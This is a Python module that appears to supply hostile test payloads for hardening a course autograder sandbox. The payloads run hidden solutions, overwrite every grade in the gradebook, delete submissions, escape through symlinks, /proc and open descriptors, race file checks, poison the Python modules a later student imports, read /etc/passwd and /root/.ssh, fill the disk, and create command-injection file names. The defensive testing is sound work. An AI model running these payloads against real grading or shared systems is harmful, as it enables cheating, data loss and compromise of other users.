"""Attacks on files: read the solution or another student, change grades, leave something behind."""

from __future__ import annotations

from course.grading.hostile.attack import KERNEL, Hostile

JUDGE0 = (
    "Judge0, CVE-2024-28185 and CVE-2024-28189: a link in the work folder, followed by the grader"
)
MEASURED = "measured on stock nbgrader 0.9.6"

READS_SOLUTION = """
import glob, json, os
def run(pattern):
    found = [c for path in glob.glob(pattern) for c in json.load(open(path))["cells"]]
    for cell in found:
        if cell["cell_type"] == "code":
            exec("".join(cell["source"]), globals())
    return len(found) or open(os.path.dirname(pattern))
attempt("run the solution", lambda: run(os.path.join(ROOT, "solutions", "*", "*.ipynb")))
for place in (ROOT, "/home"):
    attempt("look around", lambda: os.listdir(place))
attempt("read the released values", lambda: open(ROOT + "/assignments/00-tiny/checks.json").read(9))
for name in NAMES:
    globals().setdefault(name, lambda *args, **kwargs: 0.0)
"""

GRADEBOOK = """
import os
def everybody(path):
    try:
        import sqlite3
    except ImportError:  # its library is not there: then by hand
        with open(path, "r+b") as book:
            return book.write(b"SQLite format 3")
    with sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=1) as book:
        return book.execute("UPDATE grade SET auto_score = 1000, manual_score = 1000").rowcount
attempt("raise all grades", lambda: everybody(os.path.join(ROOT, "gradebook.db")))
attempt("read the hidden seed", lambda: open(os.path.join(ROOT, ".grading", "seed")).read())
"""

WRITES = """
import os, shutil
def plant(*folders):
    with open(os.path.join(ROOT, *folders, "planted.txt"), "w") as file:
        return file.write("I was here")
attempt("plant beside the course", lambda: plant())
attempt("plant among the assignments", lambda: plant("assignments"))
attempt("plant among the solutions", lambda: plant("solutions"))
attempt("plant in the feedback", lambda: plant("feedback"))
attempt("delete what was handed in", lambda: shutil.rmtree(os.path.join(ROOT, "submitted")))
attempt("replace the solutions", lambda: os.rename(os.path.join(ROOT, "solutions"), "mine"))
"""

LINKS = """
import os
secret = OUTSIDE["secret"]
def links(target):
    os.symlink(target, "soft-" + os.path.basename(target))
    return "soft-" + os.path.basename(target)
def make(path):
    with open(path, "w") as file:
        return file.write("planted")
attempt("make a soft link", lambda: links("anything"))
attempt("read through a soft link", lambda: open(links(secret)).read())
attempt("list through a soft link", lambda: os.listdir(links(os.path.dirname(secret))))
attempt("make a file through a link to nowhere", lambda: make(links(secret + ".planted")))
attempt("make a hard link", lambda: os.link(secret, "hard"))
attempt("pull it in by renaming", lambda: os.rename(secret, "mine"))
make("mine.txt")
attempt("push out by renaming", lambda: os.rename("mine.txt", secret + ".txt"))
"""

DETOURS = """
import os
secret = OUTSIDE["secret"]
roots = ["/proc/self/root", "/proc/1/root", f"/proc/{os.getppid()}/root", "/proc/self/cwd/../../..",
         "/proc/thread-self/root", f"/proc/{OUTSIDE['grader']}/root", f"/proc/{OUTSIDE['victim']}/cwd/.."]
for root in roots:
    attempt("read by a detour through /proc", lambda: open(root + secret).read())
here = os.open(".", os.O_PATH)
attempt("read upwards from a folder", lambda: os.open("../" * 20 + secret[1:], os.O_RDONLY, dir_fd=here))
attempt("list /home and /root", lambda: os.listdir("/home") + os.listdir("/root/.ssh"))
attempt("read who is on this machine", lambda: open("/etc/passwd").read())
"""

DESCRIPTORS = """
import os
def secrets():
    found = []
    for number in range(3, 256):
        try:
            found.append(os.pread(number, 100, 0))
        except OSError:
            pass
    return [text for text in found if b"do not" + b" tell" in text][0:1] or open("/nonexistent")
attempt("read a file the grader has open", secrets)
def folders():
    for number in range(3, 256):
        try:
            return os.listdir(number)
        except OSError:
            pass
    return open("/nonexistent")
attempt("list a folder the grader has open", folders)
attempt("read the grader's descriptors", lambda: os.listdir(f"/proc/{OUTSIDE['grader']}/fd"))
"""

METADATA = (
    KERNEL
    + """
import fcntl, struct
secret = OUTSIDE["secret"]
attempt("chmod", lambda: os.chmod(secret, 0o777))
attempt("chown", lambda: os.chown(secret, 5, 5))
attempt("change its time", lambda: os.utime(secret, (1, 1)))
attempt("empty it", lambda: os.truncate(secret, 0))
attempt("mark it", lambda: os.setxattr(secret, "user.mark", b"1"))
attempt("read its mark", lambda: os.getxattr(secret, "user.note"))
attempt("remove its mark", lambda: os.removexattr(secret, "user.note"))
attempt("remove its mark, newer call", lambda: call("removexattrat", -100, secret.encode(), 0, b"user.note"))
attempt("set its flags, newer call", lambda: call("file_setattr", -100, secret.encode(), bytes(24), 24, 0))
attempt("watch it", lambda: library.inotify_add_watch(library.inotify_init(), secret.encode(), 0xFFF)
        + 1 or open("/nonexistent"))
module = os.open(os.__file__, os.O_RDONLY)
attempt("read the flags of a file one may read", lambda: fcntl.ioctl(module, 0x80086601, bytes(8)))
attempt("chmod a file one may read", lambda: os.fchmod(module, 0o777))
attempt("touch a file one may read", lambda: os.utime(os.__file__))
"""
)

ELSEWHERE = """
import os, sys
places = ["/dev/shm", "/dev", "/dev/mqueue", "/run", "/var/tmp", "/var/lock", "/proc", "/sys", "/", "/etc/cron.d",
          os.path.dirname(os.__file__) + "/site-packages", os.path.dirname(sys.executable or "/usr/bin/x")]
for place in places:
    attempt("write where nothing limits it", lambda: open(place + "/hostile", "wb").write(b"x"))
"""

NEXT_STUDENT = """
import os, sys
import numpy, course.grading, course.grading.execute as execute
evil = "import os; os.environ['OWNED'] = '1'"
targets = {
    "a module of the library": os.__file__,
    "sitecustomize": os.path.join(os.path.dirname(os.__file__), "sitecustomize.py"),
    "a .pth file": os.path.join(OUTSIDE["stdlib"], "site-packages", "evil.pth"),
    "NumPy": numpy.__file__,
    "the worker's own files": execute.__file__,
    "their byte code": getattr(execute, "__cached__", None) or execute.__file__ + "c",
    "a package of my own": os.path.join(os.path.dirname(course.grading.__file__), "evil.py"),
}
def write(path):
    with open(path, "a") as file:
        return file.write(evil)
for what, path in targets.items():
    attempt("change what the next student runs", lambda: write(path))
attempt("make a folder beside them", lambda: os.mkdir(os.path.dirname(execute.__file__) + "/__evil__"))
attempt("give one of them a second name", lambda: os.link(os.__file__, "module"))
attempt("remove one of them", lambda: os.unlink(execute.__file__))
"""

# Whoever looks at a path and then opens it may open another: it changes in between.
RACES = """
import ctypes, os, threading, time
library = ctypes.CDLL(None)
def race(outside, flags):
    path, done = ctypes.create_string_buffer(b"mine", 4096), []
    def flip():
        while not done:
            path.value = b"mine"
            path.value = outside.encode()
    threading.Thread(target=flip, daemon=True).start()
    open("mine", "w").close()
    end = time.monotonic() + 0.3
    try:
        while time.monotonic() < end:
            opened = library.open(path, flags, 0o600)
            if opened >= 0:
                text = os.read(opened, 100) if flags == os.O_RDONLY else b""
                os.close(opened)
                if text:
                    return text
    finally:
        done.append(True)
    raise PermissionError("never")
attempt("read a file whose name changes", lambda: race(OUTSIDE["secret"], os.O_RDONLY))
attempt("make a file whose name changes", lambda: race(OUTSIDE["secret"] + ".made", os.O_CREAT | os.O_WRONLY))
"""

HUGE_FILES = """
import os
def sparse():
    with open("sparse", "wb") as file:
        return file.truncate(1 << 40)
def dense():
    with open("dense", "wb") as file:
        return [file.write(bytes(1 << 20)) for _ in range(100)]
def many():
    for number in range(100):
        with open(f"part{number}", "wb") as file:
            file.write(bytes(8 << 20))
attempt("make a file of a terabyte", sparse)
attempt("fill a file", dense)
note("fill many", many)
"""

TINY_FILES = """
import itertools, os
def endless():
    for number in itertools.count():
        (os.mkdir if number % 2 else lambda name: open(name, "x").close())(f"{number}")
attempt("make files and folders without end", endless)
"""

DEEP_FOLDERS = """
import os
def dig():
    for depth in range(3000):
        os.mkdir("a" * 20); os.chdir("a" * 20)
    open("bottom", "w").write("hard to find")
    return depth
note("dig", dig)
os.umask(0o777)
note("make a folder nobody may open", lambda: os.mkdir("locked"))
"""

ODD_NAMES = r"""
import os
def write(name):
    with open(name, "w") as file:
        return file.write("x")
for name in ("line\nbreak", b"\xff\xfe", "\u202egnp.tnednet", "-rf", "$(touch planted.txt)", "n" * 255, "*"):
    note("write under an odd name", lambda: write(name))
note("make a pipe", lambda: os.mkfifo("pipe"))
"""

ATTACKS = (
    Hostile("reads-solution", "looks for the solution on the disk and runs it", READS_SOLUTION, "",
            works=("run the solution",), source=MEASURED),
    Hostile("gradebook", "writes into the gradebook", GRADEBOOK, works=("raise all grades",), source=MEASURED),
    Hostile("writes", "plants and deletes files of the course", WRITES, works=("plant in the feedback",)),
    Hostile("links", "reaches outside by links made inside", LINKS,
            works=("pull it in by renaming",),
            source=JUDGE0 + "; found here: sandlock 0.9 makes a file where a link to nothing points"),
    Hostile("races", "changes a file's name between the look and the opening", RACES,
            source="seccomp_unotify(2): the time of check is not the time of use"),
    Hostile("detours", "reaches outside by /proc and by going up", DETOURS,
            works=("read by a detour through /proc",)),
    Hostile("descriptors", "uses what the grader has open", DESCRIPTORS),
    Hostile("metadata", "changes owners, times, flags and marks, not contents", METADATA,
            source="found here: Landlock does not look at these"),
    Hostile("elsewhere", "writes where no quota counts", ELSEWHERE,
            source="found here: /dev and hidden folders were file systems in memory without a limit"),
    Hostile("next-student", "changes what the next submission will import", NEXT_STUDENT),
    Hostile("huge-files", "fills the disk by large files", HUGE_FILES, ends="disk|^$"),
    Hostile("tiny-files", "fills the disk by files and folders that are empty", TINY_FILES,
            ends="disk|waiting|CPU time|^$"),
    Hostile("deep-folders", "makes folders too deep to measure or remove", DEEP_FOLDERS, ends="disk|^$",
            source="found here: shutil.rmtree raises RecursionError"),
    Hostile("odd-names", "gives files names that trip whoever tidies up", ODD_NAMES),
)  # fmt: skip
